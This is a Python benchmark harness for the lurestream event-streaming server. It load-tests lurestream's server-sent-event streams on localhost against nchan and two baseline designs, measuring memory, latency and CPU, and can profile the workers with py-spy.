"""Scale benchmarks, side by side: lurestream, the seed's design (bench/baselines/seed_app.py), nchan and
DECNET's own log feed (bench/baselines/decnet_logs_app.py).

    python bench/run.py [--servers lurestream,seed,nchan] [--scenarios idle,storm,sparse,broadcast] [--quick]
    python bench/run.py --servers lurestream,decnet --scenarios logfeed,firehose   # protocol §14–§15
    python bench/run.py --servers lurestream,lurestream@/tmp/oldmain --rounds 3    # this checkout vs another
    python bench/run.py --servers lurestream --scenarios sparse --profile /tmp/prof   # + py-spy profiles
    python bench/run.py --servers lurestream --processes 3 --scenarios idle --idle-streams 50000

Starts its own nats-server and MongoDB-wire server, seeds users and attackers, builds the C load
generator (bench/loadgen.c) with the system compiler, and for each server runs:
- idle: N streams held open → server RSS per stream (summed over the worker processes);
- storm: N streams over 100 attackers opened as fast as possible → streams/s, p99 connect→headers,
  server CPU per connect, snapshot queries per attacker (lurestream);
- sparse: S streams over 500 attackers, the publisher at R events/s spread over them → delivery p50/p99,
  server CPU per delivery;
- broadcast: S streams on one attacker, R events/s → deliveries/s, p99, server CPU per delivery;
- logfeed: V viewers of GET /api/v1/stream over 100 distinct searches while rows are inserted into ``logs``
  at ``--logfeed-rate`` → each stream's rows checked against exactly the rows its search selects, delivery
  p50/p99 from the insert, store queries per second by kind; DECNET's design at ``--logfeed-baseline-streams``;
- firehose: F streams of one firehose (identities), R events/s → deliveries/s, p99, server CPU per delivery.
Latency is measured from the envelope's ``ts`` (set by the publisher) to the load generator reading the
frame, on one host. The fan-out window is the publishing time plus the time until no delivery has
arrived for 2 s (at most ``--grace`` s); "delivered" is the deliveries received over those expected on
the streams that got a 200 (streams refused or failed are counted apart). Load generators run
≤ 15,000 streams each, each from its own source address (127.0.0.2, 127.0.0.3, …: one source has
~28,000 ephemeral ports).
After each lurestream scenario its ``/metrics`` is scraped: lagging closes, send timeouts, disconnects
by reason, refusals, snapshot queries. ``--profile DIR`` records each lurestream worker with py-spy
during the measured window (collapsed stacks, a speedscope JSON and a text summary per scenario).
Prints Markdown (with the command and machine); ``--output FILE`` also writes it to FILE. bench/RESULTS.md is
assembled by hand from such runs (with the abuse and cluster benches' sections), so a run never overwrites it.
nchan (Debian's nginx-light + libnginx-mod-nchan) is fed over its HTTP publisher endpoint, since it has
no NATS input; it runs when /usr/sbin/nginx and the nchan module are installed.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import platform
import random
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from typing import Any

import nats
from prometheus_client.parser import text_string_to_metric_families
from pymongo import MongoClient

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.dirname(HERE))

from serving import SECRET, serve  # noqa: E402

from lurestream.config import config_from  # noqa: E402
from lurestream.localservices import free_port, mongo_uri, mongo_wire_server, nats_server, wait_port  # noqa: E402
from lurestream.tokens import mint_token  # noqa: E402

ATTACKERS = 1000
PER_LOADGEN = 15000  # connections per load generator process (each has ~20,000 open files)
NCHAN_MODULE = "/usr/lib/nginx/modules/ngx_nchan_module.so"


@dataclass
class Server:
    name: str
    port: int
    proc: subprocess.Popen[bytes]
    publish: str  # "nats" or "http"
    extra: dict[str, Any] = field(default_factory=dict)

    def pids(self) -> list[int]:
        return [self.proc.pid, *self.children()]

    def children(self) -> list[int]:
        out = subprocess.run(["ps", "-o", "pid=", "--ppid", str(self.proc.pid)], capture_output=True, text=True)
        return [int(p) for p in out.stdout.split()]

    def workers(self) -> list[int]:
        """The processes that serve streams: the forked workers (LURESTREAM_PROCESSES > 1), else the process."""
        if self.extra.get("processes", 1) > 1:
            return self.children()
        return [self.proc.pid]

    def worker_info(self) -> list[dict[str, int]]:
        """Per worker: pid, RSS, open file descriptors and the open-files limit it runs with."""
        info = []
        for pid in self.workers():
            row = {"pid": pid, "rss_kb": rss_of(pid), "fds": -1, "nofile": -1}
            try:
                row["fds"] = len(os.listdir(f"/proc/{pid}/fd"))
                with open(f"/proc/{pid}/limits") as fh:
                    line = next(line for line in fh if line.startswith("Max open files"))
                row["nofile"] = int(line.split()[3])
            except (OSError, StopIteration, ValueError):
                pass
            info.append(row)
        return info

    def rss_kb(self) -> int:
        return sum(rss_of(pid) for pid in self.pids())

    def cpu_seconds(self) -> float:
        ticks = os.sysconf("SC_CLK_TCK")
        total = 0.0
        for pid in self.pids():
            try:
                with open(f"/proc/{pid}/stat") as fh:
                    fields = fh.read().rsplit(")", 1)[1].split()
                total += (int(fields[11]) + int(fields[12])) / ticks
            except OSError:
                pass
        return total

    def stop(self) -> None:
        self.proc.send_signal(signal.SIGQUIT if self.name.startswith("nchan") else signal.SIGTERM)
        try:
            self.proc.wait(20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(5)


def rss_of(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/status") as fh:
            return next(int(line.split()[1]) for line in fh if line.startswith("VmRSS:"))
    except (OSError, StopIteration):
        return 0


# -- services, data, servers -----------------------------------------------------------------------
def seed(mongo_url: str, users: int) -> list[str]:
    with MongoClient(mongo_url) as client:
        db = client.bench
        db.users.insert_many([{"_id": f"user-{i}", "role": "viewer"} for i in range(users)])
        db.attackers.insert_many([{"_id": f"a-{i}", "ip": f"10.{i // 250}.{i % 250}.1"} for i in range(ATTACKERS)])
        db.observations.insert_many(
            [
                {"attacker_uuid": f"a-{i}", "primitive": p, "value": "v", "confidence": 0.9, "ts": time.time()}
                for i in range(ATTACKERS)
                for p in ("ja3", "http.user_agent", "ssh.client_version")
            ]
        )
        now = datetime.now(timezone.utc)  # the identities firehose's snapshot: the 50 newest
        db.identities.insert_many(
            [{"_id": f"i-{i}", "updated_at": now - timedelta(seconds=i), "confidence": 0.5} for i in range(100)]
        )
    config = config_from({"jwt_secret": SECRET})
    return [mint_token(config, f"user-{i}", ttl=6 * 3600) for i in range(users)]


def start_lurestream(nats_url: str, mongo_url: str, processes: int, work: str, path: str | None = None) -> Server:
    """``lurestream serve`` from this checkout, or (``path``) from another one (``--servers lurestream@PATH``)."""
    port = free_port()
    proc = serve(
        port,
        nats_url,
        mongo_url,
        "bench",
        open(os.path.join(work, "lurestream.log"), "ab"),
        pythonpath=path,
        sse_max_per_user=1000,
        processes=processes,
        queue_max=1024,
        jetstream="bench",  # ids, resume, and snapshot reads shared across a storm
        drain_seconds=0,
    )
    time.sleep(1.5)
    name = "lurestream" if path is None else f"lurestream {git_commit(path)}"
    name += "" if processes == 1 else f" ×{processes}"
    return Server(name, port, proc, "nats", extra={"processes": processes, "lurestream": True, "path": path})


def start_seed(nats_url: str, mongo_url: str, work: str) -> Server:
    port = free_port()
    env = dict(
        os.environ,
        LURESTREAM_NATS_URL=nats_url,
        LURESTREAM_MONGO_URI=mongo_url,
        LURESTREAM_MONGO_DB="bench",
        LURESTREAM_JWT_SECRET=SECRET,
    )
    log = open(os.path.join(work, "seed.log"), "ab")
    script = os.path.join(HERE, "baselines", "seed_app.py")
    proc = subprocess.Popen([sys.executable, script, "--port", str(port)], env=env, stdout=log, stderr=log)
    wait_port(port, 30, proc)
    time.sleep(1.0)
    return Server("seed design", port, proc, "nats")


def start_decnet_logs(mongo_url: str, work: str) -> Server:
    """DECNET's live log feed as DECNET serves it (``bench/baselines/decnet_logs_app.py``)."""
    port = free_port()
    env = dict(os.environ, LURESTREAM_MONGO_URI=mongo_url, LURESTREAM_MONGO_DB="bench", LURESTREAM_JWT_SECRET=SECRET)
    log = open(os.path.join(work, "decnet-logs.log"), "ab")
    script = os.path.join(HERE, "baselines", "decnet_logs_app.py")
    proc = subprocess.Popen([sys.executable, script, "--port", str(port)], env=env, stdout=log, stderr=log)
    wait_port(port, 30, proc)
    time.sleep(1.0)
    return Server("DECNET design", port, proc, "none")


def nchan_available() -> bool:
    return bool(shutil.which("nginx") or os.path.exists("/usr/sbin/nginx")) and os.path.exists(NCHAN_MODULE)


def start_nchan(work: str) -> Server:
    port = free_port()
    conf = os.path.join(work, "nginx.conf")
    with open(conf, "w") as fh:
        fh.write(f"""
load_module {NCHAN_MODULE};
worker_processes 1;
worker_rlimit_nofile 20000;
pid {work}/nginx.pid;
error_log {work}/nginx-error.log warn;
daemon off;
events {{ worker_connections 19900; }}
http {{
  access_log off;
  client_body_temp_path {work}/body;
  proxy_temp_path {work}/proxy;
  fastcgi_temp_path {work}/fastcgi;
  uwsgi_temp_path {work}/uwsgi;
  scgi_temp_path {work}/scgi;
  nchan_max_reserved_memory 256M;
  server {{
    listen 127.0.0.1:{port} backlog=4096;
    location ~ /api/v1/attackers/([^/]+)/events {{ nchan_subscriber eventsource; nchan_channel_id $1;
      nchan_subscriber_first_message newest; nchan_message_buffer_length 16; }}
    location ~ /pub/(.+) {{ nchan_publisher; nchan_channel_id $1; nchan_message_buffer_length 16; }}
  }}
}}
""")
    proc = subprocess.Popen(
        ["/usr/sbin/nginx", "-c", conf, "-p", work], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    wait_port(port, 20, proc)
    return Server("nchan (nginx, C)", port, proc, "http")


# -- load -------------------------------------------------------------------------------------------
def build_loadgen(work: str) -> str:
    out = os.path.join(work, "loadgen")
    cc = os.environ.get("CC", "cc")
    subprocess.run([cc, "-O2", "-o", out, os.path.join(HERE, "loadgen.c"), "-lm"], check=True)
    return out


def load_with(
    args: argparse.Namespace,
    loadgen: str,
    server: Server,
    paths: list[str],
    hold: float,
    work: str,
    ramp: float | None = None,
    **extra: Any,
) -> Load:
    """The load generators on ``paths`` with this run's own options (``--ramp`` unless ``ramp`` is given,
    ``--no-sources``, ``--retry-refused``); ``extra``: ``processes``, ``env``."""
    ramp = args.ramp if ramp is None else ramp
    return Load(loadgen, server.port, paths, hold, work, ramp, not args.no_sources, args.retry_refused, **extra)


def paths_for(streams: int, attackers: list[str], tokens: list[str]) -> list[str]:
    return [
        f"/api/v1/attackers/{attackers[i % len(attackers)]}/events?token={tokens[i % len(tokens)]}"
        for i in range(streams)
    ]


def source_address(n: int) -> str:
    """Load generator ``n``'s source address: 127.0.0.2, 127.0.0.3, … (each has its own ~28,000 ports)."""
    return f"127.0.{(n + 2) // 256}.{(n + 2) % 256}"


class Load:
    """``len(paths)`` streams over load generator processes of at most PER_LOADGEN streams each.

    ``ramp``: new connections per second over all of them (0: as fast as they can); ``hold``: seconds
    they keep the streams after the last one is resolved (``stop()`` ends them earlier); ``retries``:
    how many times a refused connection (non-200, connect or reset failure) is opened again, 1–2 s later.
    """

    def __init__(
        self,
        loadgen: str,
        port: int,
        paths: list[str],
        hold: float,
        work: str,
        ramp: float = 0,
        sources: bool = True,
        retries: int = 0,
        processes: int = 0,
        env: dict[str, str] | None = None,
    ) -> None:
        """``processes``: at least this many load generators (0: as few as PER_LOADGEN allows); ``env``: extra
        environment for them (``LOADGEN_LOGS``: the live log feed's rows are the deliveries)."""
        self.procs: list[subprocess.Popen[str]] = []
        self.offsets: list[int] = []
        self.ready: list[threading.Event] = []
        self.drained: list[threading.Event] = []
        self.logs: list[list[str]] = []
        count = max(-(-len(paths) // PER_LOADGEN), min(processes, len(paths)), 1)  # evenly loaded
        size = -(-len(paths) // count)
        chunks = range(0, len(paths), size)
        per_ramp = ramp / len(chunks) if ramp > 0 else 0
        for n, start in enumerate(chunks):
            chunk = paths[start : start + size]
            path_file = os.path.join(work, f"paths-{n}.txt")
            with open(path_file, "w") as fh:
                fh.write("\n".join(chunk) + "\n")
            argv = [loadgen, "127.0.0.1", str(port), path_file, str(len(chunk)), str(hold), str(per_ramp)]
            argv += [source_address(n) if sources else "-", str(retries)]
            proc = subprocess.Popen(
                argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=dict(os.environ, **(env or {}))
            )
            ready, drained, log = threading.Event(), threading.Event(), []
            threading.Thread(target=self._watch, args=(proc, ready, drained, log), daemon=True).start()
            self.procs.append(proc)
            self.offsets.append(start)
            self.ready.append(ready)
            self.drained.append(drained)
            self.logs.append(log)

    @staticmethod
    def _watch(proc: subprocess.Popen[str], ready: threading.Event, drained: threading.Event, log: list[str]) -> None:
        assert proc.stderr is not None
        for line in proc.stderr:
            if line.startswith("READY"):
                ready.set()
            elif line.startswith("DRAINED"):
                drained.set()
            else:
                log.append(line.rstrip())
                print(f"  loadgen: {line.rstrip()}", file=sys.stderr, flush=True)
        ready.set()  # it ended
        drained.set()

    def signal(self, signum: int) -> None:
        for p in self.procs:
            if p.poll() is None:
                p.send_signal(signum)

    def reset(self) -> None:
        """Start counting events now."""
        self.signal(signal.SIGUSR1)

    def mark(self) -> None:
        """Publishing ended: what arrives from now on is reported as in flight."""
        self.signal(signal.SIGUSR2)

    def wait_drained(self, timeout: float) -> bool:
        """Until no delivery has arrived for 2 s at any generator (nothing in flight), at most ``timeout`` s."""
        deadline = time.monotonic() + timeout
        return all(d.wait(max(deadline - time.monotonic(), 0)) for d in self.drained)

    def stop(self) -> None:
        self.signal(signal.SIGTERM)

    def kill(self) -> None:
        for p in self.procs:
            if p.poll() is None:
                p.kill()
                p.wait(10)

    def wait_ready(self, timeout: float) -> bool:
        """Until every connection of every generator is resolved (a 200, a refusal or a failure)."""
        deadline = time.monotonic() + timeout
        return all(r.wait(max(deadline - time.monotonic(), 0)) for r in self.ready)

    def results(self) -> dict[str, Any]:
        parts = []
        for p in self.procs:
            assert p.stdout is not None
            out = p.stdout.read()  # (stderr is the watcher thread's)
            p.wait(600)
            parts.append(json.loads(out))
        merged: dict[str, Any] = {}
        for key in parts[0]:
            values = [p[key] for p in parts]
            if key in ("never_up", "closed_early_idx"):
                merged[key] = [i + off for part, off in zip(values, self.offsets, strict=True) for i in part]
            elif key == "logs":  # per connection, in the order of the paths
                merged[key] = [entry for part in values for entry in part]
            elif key in ("statuses", "connect_errors"):
                total: dict[str, int] = {}
                for v in values:
                    for k, n in v.items():
                        total[k] = total.get(k, 0) + n
                merged[key] = total
            elif key.endswith("_ms") or key == "connect_seconds":
                merged[key] = max(values)  # conservative: the worst generator's percentile
            else:
                merged[key] = sum(values)
        return merged


def established(port: int) -> int:
    out = subprocess.run(["ss", "-Htn", "state", "established", f"( sport = :{port} )"], capture_output=True, text=True)
    return len(out.stdout.splitlines())


async def publish(
    server: Server, nats_url: str, attackers: list[str], rate: float, seconds: float, subject: str = "attacker.scored"
) -> tuple[int, dict[str, int]]:
    """Publish ``rate`` events/s (each for a random attacker of ``attackers``) for ``seconds``; returns the
    number sent and how many went to each attacker. ``subject`` other than ``attacker.scored``: a firehose's
    event (``identity.formed``: every identities stream wants it; ``attackers`` are then identity ids)."""
    sent = 0
    per_attacker: dict[str, int] = dict.fromkeys(attackers, 0)
    tick = 0.01
    per_tick = rate * tick
    carry = 0.0
    nc = await nats.connect(nats_url) if server.publish == "nats" else None
    http = None
    if server.publish == "http":
        from tornado.httpclient import AsyncHTTPClient

        AsyncHTTPClient.configure(None, max_clients=64)
        http = AsyncHTTPClient()
    start = time.monotonic()
    pending: list[Any] = []
    while time.monotonic() - start < seconds:
        carry += per_tick
        batch, carry = int(carry), carry - int(carry)
        for _ in range(batch):
            uuid = random.choice(attackers)
            payload = (
                {"attacker_uuid": uuid, "score": 1.0}
                if subject == "attacker.scored"
                else {"identity_uuid": uuid, "confidence": 0.9, "observations": 3}
            )
            body = json.dumps(
                {
                    "v": 1,
                    "id": "b",
                    "topic": subject,
                    "type": "score" if subject == "attacker.scored" else subject.rpartition(".")[2],
                    "ts": time.time(),
                    "payload": payload,
                }
            ).encode()
            if nc is not None:
                await nc.publish(subject, body)
            else:
                pending.append(
                    http.fetch(
                        f"http://127.0.0.1:{server.port}/pub/{uuid}", method="POST", body=body, raise_error=False
                    )
                )
            sent += 1
            per_attacker[uuid] += 1
        if nc is not None:
            await nc.flush()
        elif len(pending) > 256:
            await asyncio.gather(*pending)
            pending = []
        next_tick = start + (sent / rate if rate else seconds)
        await asyncio.sleep(max(next_tick - time.monotonic(), 0))
    if pending:
        await asyncio.gather(*pending)
    if nc is not None:
        await nc.close()
    return sent, per_attacker


# -- profiles (py-spy) --------------------------------------------------------------------------------
class Profiler:
    """py-spy on each worker process during a measured window: collapsed stacks (``--format raw``,
    one root frame per thread), then a speedscope JSON and a text summary.

    py-spy runs with ``--nonblocking`` unless asked otherwise: pausing the server 250 times a second
    raised its sparse p99 from 8 to 23 ms and its CPU per delivery by 18 %, and while paused py-spy took
    threads parked in a futex (asyncio's executor threads) or in epoll_wait for running ones (samples
    1.2× the CPU /proc counted; without pausing 1.0×). The summary's tables leave out threads that used
    under 1 % of the window's CPU and samples in the selector's wait, and say how many.
    """

    def __init__(self, directory: str | None, rate: int = 250, blocking: bool = False) -> None:
        self.directory = directory
        self.rate = rate
        self.blocking = blocking
        self.procs: list[tuple[int, str, subprocess.Popen[bytes]]] = []
        self.started = 0.0
        self.name = ""
        self.cpu_before: dict[int, dict[int, float]] = {}
        if directory:
            os.makedirs(directory, exist_ok=True)

    def start(self, server: Server, scenario: str) -> None:
        if not self.directory or not server.name.startswith("lurestream"):
            return
        self.name = f"{slug(server.name)}-{scenario}"
        self.procs = []
        for pid in server.workers():
            raw = os.path.join(self.directory, f"{self.name}-{pid}.txt")
            argv = [py_spy(), "record", "--pid", str(pid), "--rate", str(self.rate), "--format", "raw"]
            argv += ["--threads", "--output", raw, *([] if self.blocking else ["--nonblocking"])]
            err = open(os.path.join(self.directory, f"{self.name}-{pid}.log"), "wb")
            self.procs.append((pid, raw, subprocess.Popen(argv, stdout=err, stderr=err)))
        time.sleep(0.3)  # py-spy attaches
        self.started = time.monotonic()
        self.cpu_before = {pid: thread_cpu(pid) for pid, _, _ in self.procs}

    def stop(self) -> str | None:
        """Stop recording, write the speedscope file and the summary; returns the summary's path."""
        if not self.procs:
            return None
        seconds = time.monotonic() - self.started
        cpu = {}
        for pid, before in self.cpu_before.items():
            after = thread_cpu(pid)
            cpu[pid] = {tid: after[tid] - before.get(tid, 0.0) for tid in after}
        spy_cpu = sum(cpu_of(p.pid) for _, _, p in self.procs)
        for _, _, p in self.procs:
            p.send_signal(signal.SIGINT)  # py-spy writes its file on Ctrl-C
        stacks: dict[int, dict[str, int]] = {}
        errors = 0
        for pid, raw, p in self.procs:
            try:
                p.wait(60)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait(5)
            stacks[pid] = read_collapsed(raw)
            with open(raw[: -len(".txt")] + ".log", errors="replace") as fh:
                for found in re.findall(r"Samples: \d+ Errors: (\d+)", fh.read()):
                    errors += int(found)
        self.procs = []
        assert self.directory is not None
        base = os.path.join(self.directory, self.name)
        write_speedscope(f"{base}.speedscope.json", self.name, stacks)
        summary = summarize(self.name, stacks, cpu, seconds, self.rate, spy_cpu, self.blocking, errors)
        with open(f"{base}.summary.txt", "w") as fh:
            fh.write(summary)
        print(f"  profile: {base}.summary.txt (+ .speedscope.json, raw stacks {base}-PID.txt)", file=sys.stderr)
        print("\n".join("    " + line for line in summary.splitlines()[:16]), file=sys.stderr, flush=True)
        return f"{base}.summary.txt"


def thread_cpu(pid: int) -> dict[int, float]:
    """CPU seconds used so far by each thread of ``pid``."""
    out = {}
    try:
        tids = os.listdir(f"/proc/{pid}/task")
    except OSError:
        return out
    for tid in tids:
        out[int(tid)] = cpu_of(pid, int(tid))
    return out


def py_spy() -> str:
    here = os.path.join(os.path.dirname(sys.executable), "py-spy")
    found = here if os.path.exists(here) else shutil.which("py-spy")
    if not found:
        raise SystemExit("--profile needs py-spy: pip install -e '.[bench]'")
    return found


def slug(name: str) -> str:
    return "".join(c if c.isalnum() else "-" for c in name.replace("×", "x")).strip("-")


def cpu_of(pid: int, tid: int | None = None) -> float:
    try:
        with open(f"/proc/{pid}/stat" if tid is None else f"/proc/{pid}/task/{tid}/stat") as fh:
            fields = fh.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    except OSError:
        return 0.0


def read_collapsed(path: str) -> dict[str, int]:
    """py-spy's raw output: one ``frame;frame;…;leaf COUNT`` line per distinct stack (root first)."""
    stacks: dict[str, int] = {}
    try:
        with open(path) as fh:
            for line in fh:
                stack, _, count = line.rstrip("\n").rpartition(" ")
                if stack and count.isdigit():
                    stacks[stack] = stacks.get(stack, 0) + int(count)
    except OSError:
        pass
    return stacks


def split_frame(frame: str) -> tuple[str, str, int]:
    """``name (file:line)`` → (name, file, line); a thread's root frame is its own name."""
    if frame.startswith("thread ("):
        return frame, "", 0
    name, _, where = frame.partition(" (")
    file, _, line = where.rstrip(")").rpartition(":")
    return name, file or where.rstrip(")"), int(line) if line.isdigit() else 0


def write_speedscope(path: str, name: str, stacks: dict[int, dict[str, int]]) -> None:
    """One sampled profile per process, in https://www.speedscope.app/file-format-schema.json."""
    frames: list[dict[str, Any]] = []
    index: dict[str, int] = {}
    profiles = []
    for pid, per_stack in stacks.items():
        samples, weights = [], []
        for stack, count in per_stack.items():
            ids = []
            for frame in stack.split(";"):
                if frame not in index:
                    fname, file, line = split_frame(frame)
                    index[frame] = len(frames)
                    frames.append({"name": fname, "file": file, "line": line})
                ids.append(index[frame])
            samples.append(ids)
            weights.append(count)
        profiles.append(
            {
                "type": "sampled",
                "name": f"{name} pid {pid}",
                "unit": "none",
                "startValue": 0,
                "endValue": sum(weights),
                "samples": samples,
                "weights": weights,
            }
        )
    doc = {
        "$schema": "https://www.speedscope.app/file-format-schema.json",
        "name": name,
        "exporter": "lurestream bench/run.py (py-spy raw)",
        "activeProfileIndex": 0,
        "shared": {"frames": frames},
        "profiles": profiles,
    }
    with open(path, "w") as fh:
        json.dump(doc, fh)


def summarize(
    name: str,
    stacks: dict[int, dict[str, int]],
    cpu: dict[int, dict[int, float]],
    seconds: float,
    rate: int,
    spy_cpu: float,
    blocking: bool = False,
    errors: int = 0,
) -> str:
    """Top functions by self and by inclusive samples (a function counted once per stack), top files;
    threads that used (almost) no CPU in the window are listed apart, not counted."""
    self_: dict[str, int] = {}
    incl: dict[str, int] = {}
    files: dict[str, int] = {}
    at_line: dict[str, int] = {}
    threads: dict[tuple[int, int], list[Any]] = {}  # (pid, tid) → [name, samples, kept, CPU s]
    total = waiting = truncated = 0
    for pid, per_stack in stacks.items():
        for stack, count in per_stack.items():
            first, _, rest = stack.partition(";")
            tid, thread_name = parse_thread(first)
            if tid is None:  # no thread frame (recorded without --threads)
                tid, thread_name, rest = pid, "", stack
            used = cpu.get(pid, {}).get(tid, seconds)
            entry = threads.setdefault((pid, tid), [thread_name, 0, used >= 0.01 * seconds, used])
            entry[1] += count
            if not entry[2] or not rest:
                continue
            frames = rest.split(";")
            if not frames[0].startswith(("_run_module_as_main ", "<module> ", "Thread._bootstrap ")):
                truncated += count  # read while the stack changed (without pausing): its outer frames are missing
            _, leaf_file, leaf_line = split_frame(frames[-1])
            if leaf_file == "selectors.py" and leaf_line in WAIT_LINES:
                waiting += count
                continue
            functions = [function_of(frame) for frame in frames]
            self_[functions[-1]] = self_.get(functions[-1], 0) + count
            at_line[frames[-1]] = at_line.get(frames[-1], 0) + count
            files[leaf_file] = files.get(leaf_file, 0) + count
            for function in set(functions):
                incl[function] = incl.get(function, 0) + count
            total += count
    kept = [(k, v) for k, v in threads.items() if v[2]]
    left = [(k, v) for k, v in threads.items() if not v[2]]
    kept_cpu = sum(v[3] for _, v in kept)
    mode = "" if blocking else " --nonblocking"
    lines = [
        f"profile {name}: py-spy record --rate {rate} --format raw --threads{mode} (idle samples excluded); "
        "functions aggregated over their lines",
        f"window {seconds:.1f} s; total samples {total} = {total / rate:.1f} s at {rate}/s; "
        f"those threads' CPU in the window {kept_cpu:.1f} s (/proc); py-spy's own CPU {spy_cpu:.1f} s",
        "(a sample counts a thread running or runnable — waiting for a core on a busy machine — so compare "
        "shares; samples above CPU × rate mean CPU contention)",
        f"left out: {waiting} samples parked in the selector's epoll_wait (py-spy counts part of that wait as "
        "active; the Python part of select() is counted)",
        f"py-spy could not read {errors} samples and {truncated} counted stacks lack their outer frames "
        "(both: stacks that changed while read without pausing; --profile-blocking avoids them, at a cost)",
        "threads counted: "
        + ", ".join(f"{pid}/{tid} {v[0]} ({v[1]} samples, {v[3]:.2f} s CPU)" for (pid, tid), v in kept),
    ]
    if left:
        lines.append(
            "left out (under 1 % CPU, counted active by py-spy while parked): "
            + ", ".join(f"{pid}/{tid} {v[0]} ({v[1]} samples, {v[3]:.2f} s CPU)" for (pid, tid), v in left)
        )
    lines.append("")

    def top(title: str, counts: dict[str, int], n: int) -> None:
        lines.append(f"{title}:")
        lines.append(f"{'samples':>8} {'share':>6}  function")
        for frame, count in sorted(counts.items(), key=lambda kv: -kv[1])[:n]:
            lines.append(f"{count:>8} {count / max(total, 1):>6.1%}  {frame}")
        lines.append("")

    top("top by self samples", self_, 25)
    top("top by inclusive samples", incl, 25)
    top("self samples by file", files, 15)
    lines.append("top lines by self samples (the Python line running, or calling into C):")
    for frame, count in sorted(at_line.items(), key=lambda kv: -kv[1])[:15]:
        _, file, line = split_frame(frame)
        lines.append(f"{count:>8} {count / max(total, 1):>6.1%}  {frame}  {source_line(file, line)}")
    lines.append("")
    return "\n".join(lines)


def source_line(file: str, line: int) -> str:
    """The text of a line py-spy names by a shortened path (``lurestream/writer.py``, ``asyncio/events.py``)."""
    import linecache
    import sysconfig

    for base in (os.path.dirname(HERE), sysconfig.get_paths()["stdlib"], sysconfig.get_paths()["purelib"]):
        path = os.path.join(base, file)
        if os.path.exists(path):
            return linecache.getline(path, line).strip()[:100]
    return ""


def function_of(frame: str) -> str:
    """``name (file:line)`` → ``name (file)``: a function's samples over all its lines."""
    head, sep, line = frame.rpartition(":")
    return head + ")" if sep and line.rstrip(")").isdigit() else frame


def selector_wait_lines() -> set[int]:
    """The lines of selectors.py that block in the kernel (epoll_wait / poll / select / kevent)."""
    import selectors

    with open(selectors.__file__) as fh:
        return {
            n
            for n, line in enumerate(fh, 1)
            if "fd_event_list = self._selector" in line
            or "kev_list = self._selector" in line
            or "self._select(" in line
        }


WAIT_LINES = selector_wait_lines()


def parse_thread(frame: str) -> tuple[int | None, str]:
    """py-spy's ``--threads`` root frame ``thread (TID): NAME`` → (TID, NAME)."""
    if not frame.startswith("thread ("):
        return None, ""
    ident, _, thread_name = frame[len("thread (") :].partition("): ")
    try:
        return int(ident, 0), thread_name
    except ValueError:
        return None, thread_name


# -- server counters ------------------------------------------------------------------------------------
COUNTERS = (
    "lurestream_lagging_closes_total",
    "lurestream_send_timeouts_total",
    "lurestream_stream_disconnects_total",
    "lurestream_http_refused_total",
    "lurestream_snapshot_queries_total",
    "lurestream_stream_connects_total",
    "lurestream_auth_failures_total",
    "lurestream_events_forwarded_total",
    "lurestream_bus_messages_total",
    "lurestream_streams_open",
    "lurestream_log_queries_total",
)


LABELS = ("reason", "family", "kind", "query", "outcome")  # the label a metric's values are kept by


def scrape(server: Server) -> dict[str, dict[str, float]] | None:
    """lurestream's ``/metrics`` (every worker's values, with several processes): for each metric of
    COUNTERS, its value by the label that matters (``reason``, ``family``, ``kind``, ``query``…; "" when
    unlabelled), read with prometheus-client's own parser."""
    if not server.extra.get("lurestream"):
        return None
    import urllib.request

    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{server.port}/metrics", timeout=20) as r:
            text = r.read().decode()
    except OSError as exc:
        print(f"  /metrics: {exc}", file=sys.stderr)
        return None
    out: dict[str, dict[str, float]] = {}
    for family in text_string_to_metric_families(text):
        for sample in family.samples:
            if sample.name not in COUNTERS:  # (a counter's samples are NAME_total; _created is left out)
                continue
            label = next((sample.labels[k] for k in LABELS if sample.labels.get(k)), "")
            values = out.setdefault(sample.name, {})
            values[label] = values.get(label, 0.0) + float(sample.value)
    return out


def counter(metrics: dict[str, dict[str, float]] | None, name: str) -> float | None:
    if metrics is None:
        return None
    return sum(metrics.get(name, {}).values())


def counters_row(metrics: dict[str, dict[str, float]] | None) -> dict[str, Any]:
    """What the report prints per scenario (lurestream only)."""
    if metrics is None:
        return {}

    def labelled(name: str) -> dict[str, int]:
        return {k: int(v) for k, v in sorted(metrics.get(name, {}).items()) if v}

    return {
        "lagging_closes": int(counter(metrics, "lurestream_lagging_closes_total") or 0),
        "send_timeouts": int(counter(metrics, "lurestream_send_timeouts_total") or 0),
        "disconnects": labelled("lurestream_stream_disconnects_total"),
        "http_refused": labelled("lurestream_http_refused_total"),
        "auth_failures": labelled("lurestream_auth_failures_total"),
        "snapshot_queries": int(counter(metrics, "lurestream_snapshot_queries_total") or 0),
        "connects": int(counter(metrics, "lurestream_stream_connects_total") or 0),
        "events_forwarded": int(counter(metrics, "lurestream_events_forwarded_total") or 0),
        "streams_open": int(counter(metrics, "lurestream_streams_open") or 0),
    }


def load_row(res: dict[str, Any]) -> dict[str, Any]:
    """What the load generators saw go wrong, for the report."""
    return {
        "statuses": res["statuses"],
        "connect_errors": res["connect_errors"],
        "failed_before_headers": res["failed_headers"],
        "retried": res["retried"],
        "closed_early": res["closed_early"],
        "unresolved": res["unresolved"],
        "retry_frames": res["retry_frames"],
        "error_frames": res["error_frames"],
        "loadgen_cpu_s": res["cpu_seconds"],
    }


def ensure_open_files(needed: int) -> None:
    """Raise this process's open-files limit (inherited by the servers it starts) to ``needed`` if it is lower."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft >= needed:
        return
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, needed), max(hard, needed)))
        print(f"open-files limit raised from {soft} to {needed} for the servers", file=sys.stderr)
    except (ValueError, OSError) as exc:
        print(f"open-files limit {soft} (hard {hard}) is below the {needed} needed: {exc}", file=sys.stderr)


# -- scenarios ----------------------------------------------------------------------------------------
def scenario_idle(
